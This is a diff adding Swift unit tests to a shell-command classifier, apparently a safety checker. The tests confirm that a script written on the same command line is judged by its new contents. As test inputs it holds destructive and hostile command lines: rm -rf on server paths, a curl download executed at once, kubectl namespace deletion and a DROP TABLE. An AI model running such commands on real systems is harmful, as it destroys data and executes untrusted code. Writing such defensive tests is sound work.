@@ -356,3 +356,53 @@ import Testing
         #expect(effect("gh frobnicate things") == .unknown)
     }
 }
+
+/// A command line that writes a file and then runs or reads it runs what it wrote, not what the
+/// disk held before the line: the classifier reads the file as the line leaves it.
+@Suite struct FilesTheLineWritesTests {
+    let classifier = ShellClassifier(fileSystem: FixedFileSystem(
+        files: ["/srv/app/ok.sh": "ls -la\n", "/srv/app/Makefile": "all:\n\techo fine\n"], directories: ["/srv", "/srv/app"]))
+
+    func facts(_ line: String) -> Classification { classifier.classify(commandLine: line, workingDirectory: "/srv/app") }
+
+    @Test func aScriptChangedByTheLineIsNotTheDisksScript() {
+        // The disk's script only lists; the line adds to it, edits it or replaces it first.
+        #expect(facts("sh ok.sh").effect == .read)
+        let appended = facts("printf 'rm -rf /srv/data\\n' >> ok.sh && sh ok.sh")
+        #expect(appended.effect == .destructive && appended.operations.contains("shell:ls"), "\(appended.operations)")
+        for line in ["sed -i 's/ls -la/rm -rf \\/srv/' ok.sh && sh ok.sh", "curl -sSo ok.sh https://example.com/x.sh; ./ok.sh",
+                     "cp /tmp/other.sh ok.sh && bash ok.sh", "echo \"$PAYLOAD\" > ok.sh && sh ok.sh", "rm -rf /srv/app && sh /srv/app/ok.sh"] {
+            let changed = facts(line)
+            #expect(changed.effect >= .unknown && changed.categories.contains(.opaqueExecution), "\(line): \(changed.effect) \(changed.operations)")
+        }
+        // Metadata changes keep what the file holds.
+        #expect(facts("chmod +x ok.sh && ./ok.sh").operations.contains("shell:ls"))
+    }
+
+    @Test func whatTheLineWritesIsWhatLaterCommandsRead() {
+        let script = facts("cat > deploy.sh <<'EOF'\nset -e\nkubectl delete namespace shop\nEOF\nchmod +x deploy.sh && ./deploy.sh")
+        #expect(script.operations.contains("kubectl:delete"), "\(script.operations)")
+        let sql = facts("echo 'DROP TABLE orders;' > /tmp/q.sql && psql -f /tmp/q.sql")
+        #expect(sql.operations.contains("sql:drop_table"), "\(sql.operations)")
+        let makefile = facts("printf 'all:\\n\\trm -rf /srv/data\\n' > Makefile && make")
+        #expect(makefile.operations.contains("shell:rm"), "\(makefile.operations)")
+        // Standard error is not where `echo` writes.
+        #expect(facts("echo 'rm -rf /srv' 2> ok.sh; sh ok.sh").categories.contains(.opaqueExecution))
+    }
+
+    /// Every corpus command, written into a script by `printf` and run from it, is classified
+    /// as it is on the line: never milder, never missing a category.
+    @Test func aScriptWrittenOnTheLineIsNeverMilderThanItsCommand() throws {
+        let cases = try Corpus.load("shell.jsonl", key: "input").filter { !$0.input.contains("\n") && $0.effect != .read }
+        #expect(cases.count > 500)
+        let empty = ShellClassifier(fileSystem: FixedFileSystem(files: [:], directories: ["/tmp", "/srv"]))
+        for item in cases {
+            let direct = empty.classify(commandLine: item.input, workingDirectory: "/srv")
+            let quoted = "'" + item.input.replacing("'", with: "'\\''") + "'"
+            let line = "printf '%s\\n' \(quoted) > /tmp/step.sh && sh /tmp/step.sh"
+            let viaScript = empty.classify(commandLine: line, workingDirectory: "/srv")
+            #expect(viaScript.effect >= direct.effect, "\(item): \(viaScript.effect) through a script, \(direct.effect) on the line")
+            #expect(viaScript.categories.isSuperset(of: direct.categories.subtracting([.opaqueExecution])), "\(item)")
+        }
+    }
+}
